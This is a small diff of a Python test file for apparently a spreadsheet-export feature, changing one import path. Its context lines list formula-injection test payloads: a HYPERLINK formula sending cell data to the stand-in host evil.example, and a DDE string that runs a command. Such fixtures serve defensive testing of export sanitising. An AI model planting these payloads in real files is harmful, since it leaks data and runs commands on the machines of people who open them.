@@ -13,7 +13,7 @@ from openpyxl import load_workbook
 from core.actor import Actor
 from core.spreadsheet import FORMULA_STARTS, cell_text
 from accounts.user_admin import NewUser
-from tests.quizzes.conftest import SINGLE_DATA
+from tests.support.questions import SINGLE_DATA
 from webapp.extensions import services
 
 PAYLOADS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "+1+cmd|' /C calc'!A0",
